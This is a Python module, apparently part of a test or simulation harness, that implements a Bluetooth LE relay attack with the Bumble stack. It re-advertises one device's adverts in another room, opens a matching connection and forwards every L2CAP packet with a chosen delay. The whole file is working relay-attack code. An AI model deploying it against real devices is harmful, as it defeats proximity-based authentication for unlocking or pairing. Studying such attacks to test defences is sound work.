"""A relay between two rooms: the attack in which OLD and NEW are not near each other at all.

Two radios with their own controllers, joined by a wire of chosen latency.  One sits with OLD,
the other with NEW; it repeats OLD's adverts, accepts NEW's connection, makes one to OLD and
passes every L2CAP packet on, so that encrypted and signed values arrive as they were sent.
It speaks HCI only, as two dongles would.
"""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from contextlib import AsyncExitStack, asynccontextmanager
from typing import Any

from bumble import hci
from bumble.host import Host
from bumble.transport import open_transport

ADVERT_INTERVAL = 0xA0  # 100 ms in units of 0.625 ms
SCAN_INTERVAL = 0x10  # 10 ms, and the window is as long: scanning all the time
ADV_IND = hci.HCI_LE_Advertising_Report_Event.EventType.ADV_IND

Report = hci.HCI_LE_Advertising_Report_Event.Report


class End:
    """One radio of the relay, with the one link it carries."""

    def __init__(self, host: Host) -> None:
        self.host = host
        self.handle: int | None = None
        self._commands: set[asyncio.Task[object]] = set()
        self._waiting: list[tuple[int, bytes]] = []
        host.on("disconnection", self._on_disconnection)

    def up(self, handle: int) -> None:
        """The link is there; send what came before it."""
        self.handle = handle
        waiting, self._waiting = self._waiting, []
        for cid, pdu in waiting:
            self.send(cid, pdu)

    def send(self, cid: int, pdu: bytes) -> None:
        """Send one L2CAP packet, now or as soon as there is a link."""
        if self.handle is None:
            self._waiting.append((cid, pdu))
        else:
            self.host.send_l2cap_pdu(self.handle, cid, pdu)

    def down(self) -> None:
        """End the link."""
        self._waiting.clear()
        if self.handle is not None:
            reason = hci.HCI_REMOTE_USER_TERMINATED_CONNECTION_ERROR
            self.command(hci.HCI_Disconnect_Command(connection_handle=self.handle, reason=reason))

    def command(self, command: hci.HCI_AsyncCommand) -> None:
        """Give the controller something to do; its end comes as an event."""
        task = asyncio.ensure_future(self.host.send_async_command(command))
        self._commands.add(task)
        task.add_done_callback(self._commands.discard)

    def _on_disconnection(self, *_: object) -> None:
        self.handle = None


class Relay:
    """Passes on everything between `near`, in OLD's room, and `far`, in NEW's."""

    def __init__(self, near: Host, far: Host, latency: float) -> None:
        """`latency` is in seconds and each way."""
        self.latency = latency
        self._near, self._far = End(near), End(far)
        self._heard: asyncio.Queue[Report | None] = asyncio.Queue()
        self._old: hci.Address | None = None
        near.on("advertising_report", self._heard.put_nowait)
        near.on("le_connection", lambda handle, *_: self._near.up(handle))
        far.on("le_connection", self._on_new)
        for end, other in ((self._near, self._far), (self._far, self._near)):
            end.host.on("l2cap_pdu", lambda _, cid, pdu, to=other: self._later(to, cid, pdu))
            end.host.on("disconnection", lambda *_, to=other: to.down())
        far.on("disconnection", lambda *_: self._heard.put_nowait(None))

    async def run(self) -> None:
        """Listen in one room and advertise in the other, for ever."""
        await _scan(self._near.host)
        advertised = b""
        while True:
            report = await self._heard.get()
            if report is None:  # a link ended, and with it the advert
                advertised = b""
            elif report.event_type == ADV_IND and report.data != advertised:
                self._old, advertised = report.address, report.data
                if self._far.handle is None:
                    await _advertise(self._far.host, report.data)

    def _on_new(self, handle: int, *event: Any) -> None:
        """NEW connected: connect to OLD, with the same parameters."""
        assert self._old is not None
        self._far.up(handle)
        *_, interval, latency, supervision = event
        self._near.command(
            hci.HCI_LE_Create_Connection_Command(
                le_scan_interval=SCAN_INTERVAL,
                le_scan_window=SCAN_INTERVAL,
                initiator_filter_policy=0,
                peer_address_type=self._old.address_type,
                peer_address=self._old,
                own_address_type=hci.OwnAddressType.PUBLIC,
                connection_interval_min=interval,
                connection_interval_max=interval,
                max_latency=latency,
                supervision_timeout=supervision,
                min_ce_length=0,
                max_ce_length=0,
            )
        )

    def _later(self, to: End, cid: int, pdu: bytes) -> None:
        asyncio.get_running_loop().call_later(self.latency, to.send, cid, pdu)


async def _scan(host: Host) -> None:
    await host.send_sync_command(
        hci.HCI_LE_Set_Scan_Parameters_Command(
            le_scan_type=hci.HCI_LE_Set_Scan_Parameters_Command.PASSIVE_SCANNING,
            le_scan_interval=SCAN_INTERVAL,
            le_scan_window=SCAN_INTERVAL,
            own_address_type=hci.OwnAddressType.PUBLIC,
            scanning_filter_policy=0,
        )
    )
    await host.send_sync_command(
        hci.HCI_LE_Set_Scan_Enable_Command(le_scan_enable=1, filter_duplicates=0)
    )


async def _advertise(host: Host, data: bytes) -> None:
    enable = hci.HCI_LE_Set_Advertising_Enable_Command
    await host.send_sync_command(enable(advertising_enable=0))
    await host.send_sync_command(
        hci.HCI_LE_Set_Advertising_Parameters_Command(
            advertising_interval_min=ADVERT_INTERVAL,
            advertising_interval_max=ADVERT_INTERVAL,
            advertising_type=hci.HCI_LE_Set_Advertising_Parameters_Command.AdvertisingType.ADV_IND,
            own_address_type=hci.OwnAddressType.PUBLIC,
            peer_address_type=hci.OwnAddressType.PUBLIC,
            peer_address=hci.Address.ANY,
            advertising_channel_map=7,
            advertising_filter_policy=0,
        )
    )
    await host.send_sync_command(hci.HCI_LE_Set_Advertising_Data_Command(advertising_data=data))
    await host.send_sync_command(enable(advertising_enable=1))


@asynccontextmanager
async def open_relay(near: str, far: str, latency: float) -> AsyncIterator[Relay]:
    """Relay from the room whose air has address `near` ("air:PATH"), OLD's, to `far`, NEW's."""
    async with AsyncExitStack() as stack:
        hosts = []
        for address in (near, far):
            path = address.removeprefix("air:")
            transport = await stack.enter_async_context(await open_transport(f"unix:{path}"))
            host = Host(transport.source, transport.sink)
            await host.reset()
            hosts.append(host)
        relay = Relay(hosts[0], hosts[1], latency)
        running = asyncio.create_task(relay.run())
        try:
            yield relay
        finally:
            running.cancel()
            await asyncio.wait({running})
